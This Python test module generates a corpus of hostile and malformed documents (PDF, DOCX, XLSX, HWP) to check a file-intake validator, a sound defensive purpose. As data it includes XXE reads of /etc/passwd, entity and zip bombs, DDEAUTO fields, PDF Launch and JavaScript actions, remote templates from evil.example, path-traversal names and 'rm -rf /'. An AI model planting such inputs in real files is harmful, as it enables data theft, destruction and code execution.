"""Two hundred documents that are broken, huge, locked, mislabelled or could act: made by code, never kept as files."""

import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from foundation.files.faults import FileFault
from foundation.files.kinds import FileKind
from tests.foundation.files.making import (
    HP,
    TYPES,
    XML_TYPE,
    W,
    compound,
    docx,
    docx_parts,
    hwp,
    hwpx,
    jpeg,
    link,
    pdf,
    pdf_with,
    pdf_writer,
    png,
    written,
    xlsx,
    zipped,
)

# What may become of a file: refused for this, kept as that, or (None) either, but never anything else.
Outcome = FileFault | FileKind | None
BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
SCRIPT = 'function OnDocument_Open()\r\n{\r\n\tvar s = new ActiveXObject("WScript.Shell"); s.Run("calc");\r\n}'


@dataclass(frozen=True)
class HostileFile:
    """One document, and what must become of it."""

    what: str
    name: str
    make: Callable[[], bytes]
    outcome: Outcome


def _with_entity(definition: str) -> bytes:
    parts = docx_parts()
    parts["word/document.xml"] = f"{definition}<w:document {W}><w:body>&a;</w:body></w:document>"
    return zipped(parts)


def _deep() -> bytes:
    parts = docx_parts()
    parts["word/document.xml"] = "<a>" * 5000 + "</a>" * 5000
    return zipped(parts)


def _locked_pdf(user: str, owner: str = "owner") -> bytes:
    writer = pdf_writer("secret words")
    writer.encrypt(user, owner, algorithm="AES-256")
    return written(writer)


def _pdf_with_a_file() -> bytes:
    writer = pdf_writer("a page")
    writer.add_attachment("x.exe", b"MZ")
    return written(writer)


def _stream(content: bytes, head: str = "/Filter /FlateDecode") -> bytes:
    return f"<< /Length {len(content)} {head} >>\nstream\n".encode() + content + b"\nendstream"


def _pdf_bomb() -> bytes:
    once = zlib.compress(b"\0" * 200_000_000, 9)
    return pdf_with("", _stream(once), page="/Contents 4 0 R")


def _locked_zip() -> bytes:
    raw = bytearray(docx("words"))
    # The flag "encrypted" of each part, in its own header and in the list of parts.
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + place] |= 1
            at = raw.find(mark, at + 4)
    return bytes(raw)


def _zip_bomb() -> bytes:
    return docx("words", more={"word/media/image1.bmp": b"\0" * 60_000_000})


def _lying_bomb() -> bytes:
    """Says that a part is small, and it is not."""
    raw = bytearray(docx("words", more={"word/footnotes.xml": b"\0" * 30_000_000}))
    at = raw.find((30_000_000).to_bytes(4, "little"))
    while at >= 0:
        raw[at : at + 4] = (1000).to_bytes(4, "little")
        at = raw.find((30_000_000).to_bytes(4, "little"), at + 4)
    return bytes(raw)


def few() -> Iterator[HostileFile]:
    """One of each kind, cheap to make and to read."""
    of, kept = HostileFile, FileKind
    dde = "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r></w:p>"
    begin = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'
    yield of("nothing at all", "a.pdf", lambda: b"", FileFault.EMPTY)
    yield of("a Windows program", "a.pdf", lambda: b"MZ\x90\0" + b"\0" * 900, FileFault.UNKNOWN)
    yield of("a web page", "a.html", lambda: b"<script>alert(1)</script>", FileFault.UNKNOWN)
    yield of("a web page as text", "a.txt", lambda: b" <!DOCTYPE html><p>", FileFault.UNKNOWN)
    yield of("half a PDF", "a.pdf", lambda: pdf("one")[:200], FileFault.BROKEN)
    yield of("half a DOCX", "a.docx", lambda: docx("one")[:200], FileFault.BROKEN)
    yield of("a PDF called DOCX", "a.docx", lambda: pdf("one"), kept.PDF)
    yield of("a locked PDF", "a.pdf", lambda: _locked_pdf("pass"), FileFault.PASSWORD)
    yield of("a PDF that may not be printed", "a.pdf", lambda: _locked_pdf(""), kept.PDF)
    yield of("a locked package", "a.docx", _locked_zip, FileFault.PASSWORD)
    yield of(
        "a locked Word document",
        "a.docx",
        lambda: compound({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}),
        FileFault.PASSWORD,
    )
    yield of(
        "an old Word document",
        "a.doc",
        lambda: compound({"WordDocument": b"x"}),
        FileFault.OLD_OFFICE,
    )
    yield of("a locked HWP", "a.hwp", lambda: hwp("하나", flags=3), FileFault.PASSWORD)
    yield of("an HWP with a script", "a.hwp", lambda: hwp("하나", script=SCRIPT), FileFault.SCRIPT)
    yield of(
        "an HWPX with a script",
        "a.hwpx",
        lambda: hwpx("하나", more={"Scripts/headerScripts": SCRIPT.encode("utf-16")}),
        FileFault.SCRIPT,
    )
    yield of(
        "a script in a PDF",
        "a.pdf",
        lambda: pdf_with("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        FileFault.SCRIPT,
    )
    yield of(
        "a script written in codes",
        "a.pdf",
        lambda: pdf_with("/OpenAction << /S /Jav#61Script /J#53 (app.alert\\(1\\)) >>"),
        FileFault.SCRIPT,
    )
    yield of(
        "a script that no page leads to",
        "a.pdf",
        lambda: pdf_with("", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        FileFault.SCRIPT,
    )
    yield of("a file in a PDF", "a.pdf", _pdf_with_a_file, FileFault.ACTIVE)
    yield of(
        "macros", "a.docx", lambda: docx("a", more={"word/vbaProject.bin": b"x"}), FileFault.MACROS
    )
    yield of(
        "an embedded program",
        "a.docx",
        lambda: docx("a", more={"word/embeddings/oleObject1.bin": b"x"}),
        FileFault.ACTIVE,
    )
    yield of(
        "a template from the internet",
        "a.docx",
        lambda: docx(
            "a",
            more={
                "word/_rels/settings.xml.rels": link(
                    "attachedTemplate", "https://evil.example/x.dotm"
                )
            },
        ),
        FileFault.FETCHES,
    )
    yield of(
        "an address to click",
        "a.docx",
        lambda: docx(
            "a", more={"word/_rels/document.xml.rels": link("hyperlink", "https://ieum.example/")}
        ),
        kept.DOCX,
    )
    yield of(
        "a field that starts a program",
        "a.docx",
        lambda: docx("a", body=begin + dde),
        FileFault.SCRIPT,
    )
    yield of("a formula that starts a program", "a.xlsx", lambda: xlsx("a", formula="EXEC(&quot;calc&quot;)"), FileFault.SCRIPT)  # fmt: skip
    yield of("entities without end", "a.docx", lambda: _with_entity(BOMB), FileFault.UNSAFE)
    yield of("an entity from our disk", "a.docx", lambda: _with_entity(OUTSIDE), FileFault.UNSAFE)
    yield of("elements without end", "a.docx", _deep, FileFault.UNSAFE)
    yield of(
        "a name that leads out",
        "a.docx",
        lambda: docx("a", more={"../../etc/cron.d/x": "* * * * *"}),
        FileFault.UNSAFE,
    )
    yield of("a bomb that says so", "a.docx", _zip_bomb, FileFault.TOO_HEAVY)
    yield of(
        "a PDF with a package behind it",
        "a.pdf",
        lambda: pdf("a") + docx("b"),
        FileFault.TWO_IN_ONE,
    )
    yield of(
        "a picture with a package behind it",
        "a.png",
        lambda: png() + zipped({"a": "b"}),
        FileFault.TWO_IN_ONE,
    )
    yield of(
        "something before a package",
        "a.docx",
        lambda: b"PK\x03\x04junk" + docx("b"),
        FileFault.TWO_IN_ONE,
    )
    yield of(
        "a picture whose comment is a page",
        "a.jpg",
        lambda: jpeg(b"<script>alert(1)</script>"),
        kept.JPEG,
    )


def _mislabelled() -> Iterator[HostileFile]:
    whole: dict[FileKind, Callable[[], bytes]] = {
        FileKind.PDF: lambda: pdf("one"),
        FileKind.DOCX: lambda: docx("one"),
        FileKind.XLSX: lambda: xlsx("one"),
        FileKind.HWPX: lambda: hwpx("하나"),
        FileKind.HWP: lambda: hwp("하나"),
        FileKind.PNG: png,
        FileKind.JPEG: jpeg,
    }
    names = ("a.exe", "..\\..\\a.bat", "../../a.php", "a\u202efdp.exe", "a.txt", "")
    for kind, make in whole.items():
        for name in names:
            yield HostileFile(f"a {kind} called {name!r}", name, make, kind)
        raw = make()
        for part in (0.1, 0.5, 0.9):
            cut = raw[: int(len(raw) * part)]
            yield HostileFile(f"{part} of a {kind}", f"a.{kind}", lambda cut=cut: cut, None)
        for seed in range(5):
            yield HostileFile(
                f"a {kind} with damage {seed}",
                f"a.{kind}",
                lambda raw=raw, seed=seed: _damaged(raw, seed),
                None,
            )


def _damaged(raw: bytes, seed: int) -> bytes:
    chance, changed = random.Random(seed), bytearray(raw)
    for _ in range(20):
        changed[chance.randrange(8, len(changed))] = chance.randrange(256)
    return bytes(changed)


def _programs() -> Iterator[HostileFile]:
    marks = {
        "an ELF program": b"\x7fELF\x02\x01\x01" + b"\0" * 500,
        "a Mac program": b"\xcf\xfa\xed\xfe" + b"\0" * 500,
        "a Java class": b"\xca\xfe\xba\xbe\0\0\x004",
        "a shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 80,
        "a RAR": b"Rar!\x1a\x07\x01\0",
        "a 7z": b"7z\xbc\xaf\x27\x1c",
        "a gzip": b"\x1f\x8b\x08\0" + b"\0" * 30,
        "a GIF": b"GIF89a\x01\0\x01\0",
        "a picture of shapes": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "an RTF": b"{\\rtf1 {\\object\\objdata 0105}}",
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "PostScript": b"%!PS\n(x) run\n",
        "a disk image": b"\0" * 600 + b"CD001",
        "a SQLite database": b"SQLite format 3\0",
        "letters of no kind": bytes(range(128, 256)) * 4,
        "a text with a bell": b"hello \x07 world",
    }
    for what, raw in marks.items():
        for name in ("a.pdf", "a.txt"):
            yield HostileFile(f"{what} called {name}", name, lambda raw=raw: raw, FileFault.UNKNOWN)
    for ending in ("exe", "dll", "js", "vbs", "bat", "lnk", "hta", "scr", "jar", "ps1"):
        more = {f"word/media/x.{ending}": b"x"}
        yield HostileFile(
            f"a {ending} inside", "a.docx", lambda more=more: docx("a", more=more), FileFault.ACTIVE
        )
    for kind in ("image", "oleObject", "frame", "subDocument", "attachedTemplate", "externalData"):
        more = {"word/_rels/document.xml.rels": link(kind, "https://evil.example/x")}
        yield HostileFile(
            f"{kind} from outside",
            "a.docx",
            lambda more=more: docx("a", more=more),
            FileFault.FETCHES,
        )
    for name in ("/abs", "a/../../b", "C:evil", "back\\slash", "word\\..\\x"):
        yield HostileFile(f"a part called {name}", "a.docx", lambda name=name: docx("a", more={name: "x"}), FileFault.UNSAFE)  # fmt: skip


def _acting() -> Iterator[HostileFile]:
    for action in ("Launch", "ImportData", "SubmitForm", "Rendition", "JavaScript"):
        for place in ("/OpenAction", "/AA << /WC", "/Names << /X"):
            closing = " >>" if "<<" in place else ""
            catalogue = f"{place} << /S /{action} /F (x) >>{closing}"
            yield HostileFile(
                f"{action} in {place}",
                "a.pdf",
                lambda told=catalogue: pdf_with(told),
                FileFault.SCRIPT,
            )
    for key, fault in (("EmbeddedFiles", FileFault.ACTIVE), ("RichMediaContent", FileFault.ACTIVE), ("XFA", FileFault.SCRIPT)):  # fmt: skip
        yield HostileFile(
            f"/{key}", "a.pdf", lambda key=key: pdf_with("", f"<< /{key} [] >>"), fault
        )
    yield from _acting_parts()


def _acting_parts() -> Iterator[HostileFile]:
    for field in ("DDE", "DDEAUTO", "ddeauto"):
        body = f'<w:p><w:fldSimple w:instr=" {field} c:\\\\x"/></w:p>'
        yield HostileFile(
            f"the field {field}", "a.docx", lambda body=body: docx("a", body=body), FileFault.SCRIPT
        )
    for field in ("INCLUDEPICTURE", "INCLUDETEXT", "LINK"):
        body = f'<w:p><w:fldSimple w:instr=" {field} https://evil.example"/></w:p>'
        yield HostileFile(
            f"the field {field}",
            "a.docx",
            lambda body=body: docx("a", body=body),
            FileFault.FETCHES,
        )
    for formula in ("CALL(1)", "REGISTER(1)", "exec (1)"):
        yield HostileFile(
            f"={formula}", "a.xlsx", lambda told=formula: xlsx("a", formula=told), FileFault.SCRIPT
        )
    for formula in ("WEBSERVICE(1)", "IMAGE(1)"):
        yield HostileFile(
            f"={formula}", "a.xlsx", lambda told=formula: xlsx("a", formula=told), FileFault.FETCHES
        )
    parts: dict[str, tuple[str | bytes, FileFault]] = {
        "xl/vbaProject.bin": (b"x", FileFault.MACROS),
        "xl/macrosheets/sheet1.xml": ("<x/>", FileFault.MACROS),
        "xl/activeX/activeX1.bin": (b"x", FileFault.ACTIVE),
        "xl/embeddings/x.docx": (b"x", FileFault.ACTIVE),
        "xl/connections.xml": ("<x/>", FileFault.FETCHES),
        "xl/externalLinks/externalLink1.xml": ("<x><ddeLink/></x>", FileFault.SCRIPT),
    }
    for name, (content, fault) in parts.items():
        yield HostileFile(
            name,
            "a.xlsx",
            lambda name=name, content=content: xlsx("a", more={name: content}),
            fault,
        )
    enabled = TYPES % (
        XML_TYPE
        + '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    )
    yield HostileFile("macros by type", "a.docx", lambda: docx("a", more={"[Content_Types].xml": enabled}), FileFault.MACROS)  # fmt: skip
    yield HostileFile(
        "an OLE in an HWP",
        "a.hwp",
        lambda: hwp("하나", more={"BinData/BIN0001.OLE": b"x"}),
        FileFault.ACTIVE,
    )
    yield HostileFile(
        "a locked HWPX",
        "a.hwpx",
        lambda: hwpx("하나", more={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        FileFault.PASSWORD,
    )
    yield HostileFile(
        "an HWP for reading only",
        "a.hwp",
        lambda: hwp("하나", flags=1 | 1 << 4),
        FileFault.PASSWORD,
    )


def _heavy() -> Iterator[HostileFile]:
    yield HostileFile("a PDF that unpacks to 200 MB", "a.pdf", _pdf_bomb, None)
    yield HostileFile("a package that lies about its size", "a.docx", _lying_bomb, None)
    many = {f"word/media/{number}.png": b"" for number in range(2500)}
    yield HostileFile("2,500 parts", "a.docx", lambda: docx("a", more=many), FileFault.UNSAFE)
    yield HostileFile("a long text", "a.txt", lambda: b"word " * 1_500_000, FileKind.TXT)
    yield HostileFile("one endless word", "a.txt", lambda: b"x" * 8_000_000, FileKind.TXT)
    yield HostileFile("pages that hold each other", "a.pdf", lambda: pdf_with("/Pages 2 0 R", page="/Kids [2 0 R]"), None)  # fmt: skip
    yield HostileFile(
        "a part packed by an unknown method",
        "a.docx",
        lambda: zipped(docx_parts("a"), method=zipfile.ZIP_LZMA),
        FileFault.UNSAFE,
    )
    deep = "<hp:p>" * 400 + "</hp:p>" * 400
    yield HostileFile(
        "paragraphs in paragraphs",
        "a.hwpx",
        lambda: hwpx(more={"Contents/section1.xml": f"<x {HP}>{deep}</x>"}),
        FileFault.UNSAFE,
    )


def all_of_them() -> Iterator[HostileFile]:
    """The whole corpus."""
    yield from few()
    yield from _mislabelled()
    yield from _programs()
    yield from _acting()
    yield from _heavy()
